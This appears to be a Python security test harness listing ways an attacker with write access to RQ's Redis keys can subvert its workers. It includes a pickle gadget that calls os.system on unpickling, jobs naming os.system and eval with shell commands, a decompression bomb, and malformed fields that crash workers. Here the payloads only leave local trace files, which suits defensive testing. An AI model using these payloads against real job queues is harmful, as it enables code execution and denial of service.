"""Somebody who can write to RQ's keys, and to nothing else: the ways in, as raw commands, and traces of what ran."""

import json
import os
import pickle
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from enum import Enum
from functools import cache
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from types import TracebackType
from typing import Any, Final, Self

import redis

BOMB_BYTES: Final = 100_000_000
LARGE_BYTES: Final = 10_000_000
"""Of a result that only an attacker's job has."""
LONG_AGO: Final = 1
"""A score by which RQ takes a registry's member for expired, or due."""

Call = list[object]


DRAIN: Final = "workers.jobs.drain"


def drain(slot: int) -> Call:
    """A call that our own worker allows: what comes with it must be shut by itself."""
    return [DRAIN, None, [], {"destination": "default", "slot": slot}]


HARMLESS: Final = drain(0)
"""Ends well at once while somebody holds the lease."""
FAILING: Final[Call] = ["nobody.nothing", None, [], {}]
USUAL: Final = {
    "created_at": "2026-01-01T00:00:00.000000Z",
    "status": "queued",
    "timeout": "60",
    "result_ttl": "60",
    "failure_ttl": "60",
}


class Gadget:
    """Runs a command when it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, (self.command,)


class Attacker:
    """Plants jobs and members of registries, under RQ's names.

    Args:
        client: of the server where RQ lives.
        folder: for the traces, and for a module `planted` that its workers can import.
        queue: the name of the queue that is attacked.
    """

    def __init__(self, client: redis.Redis, folder: Path, queue: str) -> None:
        self.redis = client
        self.queue = queue
        self._traces = folder / "traces"
        self._traces.mkdir(exist_ok=True)
        leave = f"def leave(job, *_): (Path({str(self._traces)!r}) / job.id).touch()"
        (folder / "planted.py").write_text(f"from pathlib import Path\n{leave}\n")
        self._listener = ThreadingHTTPServer(("127.0.0.1", 0), _leaving_traces(self._traces))
        Thread(target=self._listener.serve_forever, daemon=True).start()

    def __enter__(self) -> Self:
        return self

    def __exit__(self, kind: type[BaseException] | None, error: BaseException | None, at: TracebackType | None) -> None:
        self._listener.shutdown()
        self._listener.server_close()

    def ran(self, job_id: str) -> bool:
        """Whether the planted code ran, the listener was called, or the result is in Redis."""
        results: list[Any] = self.redis.xrange(f"rq:results:{job_id}")  # type: ignore[assignment]
        sizes = [len(fields.get(b"return_value", b"")) for _, fields in results]
        return (self._traces / job_id).exists() or any(size >= LARGE_BYTES for size in sizes)

    def command(self, job_id: str) -> str:
        """A shell command that leaves the trace."""
        return f"touch {self._traces / job_id}"

    def gadget(self, job_id: str) -> bytes:
        """A pickle that leaves the trace."""
        return pickle.dumps(Gadget(self.command(job_id)))

    def webhook(self, job_id: str, status: str) -> str:
        """A request, with a header of the attacker's choice, that leaves the trace."""
        url = f"http://127.0.0.1:{self._listener.server_port}/{job_id}"
        return json.dumps([{"url": url, "job_status": status, "method": "POST", "headers": {"X-Chosen": "yes"}}])

    def plant(self, job_id: str, data: bytes | Call, **fields: str | bytes) -> None:
        """Write a job's hash; a call is written as JSON."""
        packed = data if isinstance(data, bytes) else zlib.compress(json.dumps(data).encode())
        mapping = USUAL | {"origin": self.queue, "data": packed} | fields
        self.redis.hset(f"rq:job:{job_id}", mapping=mapping)  # type: ignore[arg-type]

    def enqueue(self, job_id: str, data: bytes | Call, **fields: str | bytes) -> None:
        """Plant a job and put it on the queue."""
        self.plant(job_id, data, **fields)
        self.push(job_id)

    def push(self, job_id: str | bytes) -> None:
        """Put an id on the queue, whatever it is."""
        self.redis.rpush(f"rq:queue:{self.queue}", job_id)

    def register(self, registry: str, member: str | bytes) -> None:
        """Put a member that is due into the queue's registry: wip, ready, scheduled."""
        self.redis.zadd(f"rq:{registry}:{self.queue}", {member: LONG_AGO})  # type: ignore[type-var]


def _leaving_traces(folder: Path) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            (folder / self.path.strip("/")).touch()
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            """Not on standard error."""

    return Handler


class Effect(Enum):
    """What an attack does to a stock worker."""

    RUNS = "runs the attacker's code, or calls out"
    KILLS = "ends the worker"
    SWELLS = "makes the worker's memory swell"


@dataclass(frozen=True)
class Attack:
    """One way in.

    Attributes:
        name: of the function that plants it, and the id of its job.
        plant: plants it.
        effect: what it does to a stock worker.
        stock: which one: a `pickle` or `json` worker, or a `pool`, or a `pool -S json`.
        early: whether it is met when a worker starts, by its maintenance.
    """

    name: str
    plant: Callable[[Attacker, str], None]
    effect: Effect
    stock: str
    early: bool


ATTACKS: Final[list[Attack]] = []


def attack(effect: Effect, stock: str = "json", *, early: bool = False) -> Callable[[Any], Any]:
    """Add a function to ATTACKS."""

    def add(plant: Callable[[Attacker, str], None]) -> Callable[[Attacker, str], None]:
        ATTACKS.append(Attack(plant.__name__, plant, effect, stock, early))
        return plant

    return add


# Code, by pickle: on fetch, in the worker itself, or in its horse


@attack(Effect.RUNS, "pickle")
def pickle_in_data(at: Attacker, job: str) -> None:
    at.enqueue(job, zlib.compress(at.gadget(job)))


@attack(Effect.RUNS, "pickle")
def pickle_in_meta(at: Attacker, job: str) -> None:
    at.enqueue(job, HARMLESS, meta=at.gadget(job))


@attack(Effect.RUNS, "pickle")
def pickle_in_result(at: Attacker, job: str) -> None:
    at.enqueue(job, HARMLESS, result=at.gadget(job))


@attack(Effect.RUNS, "pool -S json", early=True)
def pickle_in_the_meta_of_an_abandoned_job(at: Attacker, job: str) -> None:
    at.plant(job, HARMLESS, status="started", meta=at.gadget(job))
    at.register("wip", f"{job}:execution")


@attack(Effect.RUNS, "pool", early=True)
def pickle_in_the_meta_of_a_scheduled_job(at: Attacker, job: str) -> None:
    at.plant(job, HARMLESS, status="scheduled", meta=at.gadget(job))
    at.register("scheduled", job)


# Code, by name


@attack(Effect.RUNS)
def os_system_by_name(at: Attacker, job: str) -> None:
    at.enqueue(job, ["os.system", None, [at.command(job)], {}])


@attack(Effect.RUNS)
def eval_by_name(at: Attacker, job: str) -> None:
    at.enqueue(job, ["eval", None, [f"__import__('os').system({at.command(job)!r})"], {}])


@attack(Effect.RUNS)
def method_of_a_text(at: Attacker, job: str) -> None:
    at.enqueue(job, ["__mul__", "A" * 20, [1_000_000], {}])


@attack(Effect.RUNS)
def callback_of_success(at: Attacker, job: str) -> None:
    at.enqueue(job, HARMLESS, success_callback_name="planted.leave")


@attack(Effect.RUNS)
def callback_of_failure(at: Attacker, job: str) -> None:
    at.enqueue(job, FAILING, failure_callback_name="planted.leave")


@attack(Effect.RUNS, early=True)
def callback_of_an_abandoned_job(at: Attacker, job: str) -> None:
    at.plant(job, HARMLESS, status="started", failure_callback_name="planted.leave")
    at.register("wip", f"{job}:execution")


# Requests


@attack(Effect.RUNS)
def webhook_of_success(at: Attacker, job: str) -> None:
    at.enqueue(job, HARMLESS, webhooks=at.webhook(job, "finished"))


@attack(Effect.RUNS)
def webhook_of_failure(at: Attacker, job: str) -> None:
    at.enqueue(job, FAILING, webhooks=at.webhook(job, "failed"))


@attack(Effect.RUNS, early=True)
def webhook_of_an_abandoned_job(at: Attacker, job: str) -> None:
    at.plant(job, HARMLESS, status="started", webhooks=at.webhook(job, "failed"))
    at.register("wip", f"{job}:execution")


# Memory


@cache
def bomb() -> bytes:
    """A hundred megabytes in less than one."""
    return zlib.compress(b" " * BOMB_BYTES, 1)


@attack(Effect.SWELLS)
def bomb_in_data(at: Attacker, job: str) -> None:
    at.enqueue(job, bomb())


@attack(Effect.SWELLS)
def bomb_in_every_other_field(at: Attacker, job: str) -> None:
    at.enqueue(job, HARMLESS, **dict.fromkeys(("exc_info", "meta", "result"), bomb()))


@attack(Effect.SWELLS, early=True)
def bomb_in_a_job_that_depends_on_an_abandoned_one(at: Attacker, job: str) -> None:
    at.plant(job, HARMLESS, status="started")
    at.register("wip", f"{job}:execution")
    at.plant(f"{job}-dependent", bomb(), status="deferred")
    at.redis.sadd(f"rq:job:{job}:dependents", f"{job}-dependent")


# The worker's life: what RQ meets outside of the horse, and does not expect


@attack(Effect.KILLS)
def status_that_is_none(at: Attacker, job: str) -> None:
    at.enqueue(job, HARMLESS, status="nope")


@attack(Effect.KILLS)
def time_that_is_none(at: Attacker, job: str) -> None:
    at.enqueue(job, HARMLESS, created_at="yesterday")


@attack(Effect.KILLS)
def number_that_is_none(at: Attacker, job: str) -> None:
    at.enqueue(job, HARMLESS, result_ttl="soon")


@attack(Effect.KILLS)
def deep_list_that_json_cannot_hold(at: Attacker, job: str) -> None:
    at.enqueue(job, HARMLESS, retry_intervals="[" * 100_000)


@attack(Effect.KILLS)
def text_that_is_no_utf8(at: Attacker, job: str) -> None:
    at.enqueue(job, HARMLESS, description=b"\xff")


@attack(Effect.KILLS)
def retry_without_intervals(at: Attacker, job: str) -> None:
    at.enqueue(job, FAILING, retries_left="1", retry_intervals="{}")


@attack(Effect.KILLS)
def job_without_a_timeout(at: Attacker, job: str) -> None:
    at.enqueue(job, drain(1), timeout="")


@attack(Effect.KILLS)
def failure_that_is_forgotten_at_once(at: Attacker, job: str) -> None:
    at.redis.zadd(f"rq:executions:{job}", {"nobody": 9_999_999_999})
    at.enqueue(job, FAILING, failure_ttl="0")


@attack(Effect.KILLS)
def job_that_is_no_hash(at: Attacker, job: str) -> None:
    at.redis.rpush(f"rq:job:{job}", "anything")
    at.push(job)


@attack(Effect.KILLS)
def id_that_no_job_may_have(at: Attacker, job: str) -> None:
    at.push(f"{job} {{}}")


@attack(Effect.KILLS)
def id_that_is_no_utf8(at: Attacker, job: str) -> None:
    at.push(job.encode() + b"\xff")


@attack(Effect.KILLS, early=True)
def execution_of_three_parts(at: Attacker, job: str) -> None:
    at.register("wip", f"{job}:x:y")


@attack(Effect.KILLS, early=True)
def execution_that_is_no_utf8(at: Attacker, job: str) -> None:
    at.register("wip", job.encode() + b"\xff:x")


@attack(Effect.KILLS, early=True)
def ready_job_that_is_malformed(at: Attacker, job: str) -> None:
    at.plant(job, HARMLESS, status="nope")
    at.register("ready", job)


@attack(Effect.KILLS, early=True)
def ready_job_whose_id_is_no_utf8(at: Attacker, job: str) -> None:
    at.register("ready", job.encode() + b"\xff")


@attack(Effect.KILLS, early=True)
def id_under_way_that_is_no_utf8(at: Attacker, job: str) -> None:
    at.redis.rpush(f"rq:queue:{at.queue}:intermediate", job.encode() + b"\xff")
